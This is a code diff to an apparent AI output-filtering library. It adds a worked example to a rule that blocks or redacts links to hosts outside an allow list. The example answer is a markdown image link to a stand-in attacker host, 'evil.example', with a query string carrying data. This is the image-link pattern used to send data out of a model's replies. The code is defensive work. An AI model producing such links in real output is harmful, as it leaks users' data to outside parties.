@@ -11,7 +11,7 @@ from typing import Annotated, Final
 from pydantic import Field
 
 from aipolicy.rule_specs import Action, Segments
-from aipolicy.rules.kinds import Place, RuleKind
+from aipolicy.rules.kinds import Example, Place, RuleKind
 from aipolicy.rules.links.addresses import address_matcher
 from aipolicy.rules.links.hosts import HOST_PATTERN, Hosts
 from aipolicy.rules.links.images import MATCHER as IMAGES
@@ -52,6 +52,11 @@ LINKS: Final = RuleKind(
     spec=Links,
     compile=_compile,
     default=Segments(response=(ResponseSegment.COMPLETION,)),
+    example=Example(
+        {"allowHosts": ["ours.example"]},
+        prompt="https://evil.example/?q=1",
+        answer="![x](https://evil.example/c.png?q=1)",
+    ),
     actions=(Action.DENY, Action.REDACT, Action.ANNOTATE),
     why="a link is no data that a client could get back",
 )
